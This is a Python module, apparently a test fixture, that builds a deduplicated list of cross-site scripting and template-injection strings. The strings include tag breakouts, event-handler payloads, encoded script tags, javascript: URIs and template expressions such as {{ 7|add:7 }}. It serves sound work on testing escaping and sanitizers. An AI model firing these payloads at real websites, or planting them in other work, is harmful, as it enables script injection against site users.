"""Texts that become elements, handlers or scripts where somebody forgets to escape them."""

from __future__ import annotations

from itertools import product

_HANDLERS = (
    "onerror",
    "onload",
    "onfocus autofocus tabindex=1",
    "onmouseover",
    "ontoggle",
    "onpointerenter",
)
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "iframe src=//e",
    "video src=x",
    "details open",
    "input",
    "object data=x",
    "embed src=x",
    "math",
    "marquee",
    "form action=//e",
    "a href=//e",
    "base href=//e",
    "link rel=import",
)
_BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</script>",
    "</title>",
    "</textarea>",
    "]]>",
    "</style>",
    '\\">',
    "&quot;>",
)
_WHOLE = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script src=//e></script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:x",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "` onmouseover=`alert(1)",
    "x style=background:url(//e)",
    "' style='x:expression(1)",
    "{{ 7|add:7 }}",
    "{% now 'Y' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "<!--<script>",
    "<!--",
    "-->",
    "<![CDATA[<script>]]>",
    "<?xml?>",
    "</script><svg onload=alert(1)>",
    "</textarea></title><iframe src=//e>",
    '"}]}</script><script>',
    "\u202e\u2028\u2029evil",
    "\ufeff<script>",
    "<\u0130mg src=x>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    '<a href="\x01javascript:alert(1)">x</a>',
    "<plaintext>",
    "<xmp>",
    '<noscript><p title="</noscript><img src=x onerror=1>">',
    "<svg><style><img src=x onerror=1>",
)


def payloads() -> list[str]:
    """Some hundreds, each once."""
    built = [
        f"{start}<{element} {handler}=alert(1)>"
        for (start, element), handler in zip(
            product(_BREAKS, _ELEMENTS), _HANDLERS * 100, strict=False
        )
    ]
    return list(dict.fromkeys([*_WHOLE, *built]))
